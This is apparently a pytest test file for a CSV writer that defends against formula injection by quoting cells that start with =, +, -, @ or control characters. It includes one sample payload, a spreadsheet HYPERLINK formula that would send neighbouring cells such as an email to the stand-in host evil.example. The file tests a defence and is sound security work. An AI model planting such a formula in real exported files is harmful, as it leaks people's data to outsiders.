"""The one CSV writer: what a spreadsheet opening our files would run as a formula, it shows
as text (OWASP's CSV injection rule), and everything else reads back unchanged."""

import csv
import io

import pytest

from optout.infra import csvfile

# The cell that, opened in a spreadsheet, sends the neighbouring cells to a stranger.
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2&B2,"Click for your receipt")'


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(start: str) -> None:
    line = csvfile.csv_line([start + "1+1", "plain"])
    assert read_back(line) == [["'" + start + "1+1", "plain"]]


def test_the_hyperlink_payload_becomes_text() -> None:
    text = "".join(csvfile.csv_lines([["email", "username"], ["ana@example.org", HYPERLINK]]))
    assert read_back(text) == [["email", "username"], ["ana@example.org", "'" + HYPERLINK]]
    assert ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text


def test_numbers_dates_and_ordinary_text_are_written_unchanged() -> None:
    rows = [[5123456789, "2026-10-01", "Diversity in Faces", "a, b", 'say "hi"', "", None]]
    text = "".join(csvfile.csv_lines(rows))
    assert text == '5123456789,2026-10-01,Diversity in Faces,"a, b","say ""hi""",,\r\n'


def test_a_formula_after_the_first_character_is_left_alone() -> None:
    assert csvfile.csv_line(["a=1", "x@example.org", "1-2"]) == "a=1,x@example.org,1-2\r\n"


def test_lines_come_one_row_at_a_time() -> None:
    rows = ([n, f"={n}"] for n in range(3))
    lines = csvfile.csv_lines(rows, header=["n", "text"])
    assert next(lines) == "n,text\r\n"
    assert next(lines) == "0,'=0\r\n"
    assert list(lines) == ["1,'=1\r\n", "2,'=2\r\n"]


@pytest.mark.parametrize(
    ("value", "field"),
    [
        ("1.0", "1.0"),
        ("2026-01, second", '"2026-01, second"'),
        ('"quoted"', '"""quoted"""'),
        ("=1+1", "'=1+1"),
        ("-release,2", '"\'-release,2"'),
    ],
)
def test_one_text_cell_reads_back_the_same_as_a_whole_row(value: str, field: str) -> None:
    assert csvfile.text_cell(value) == field
    assert csvfile.csv_line([value]) == field + "\r\n"
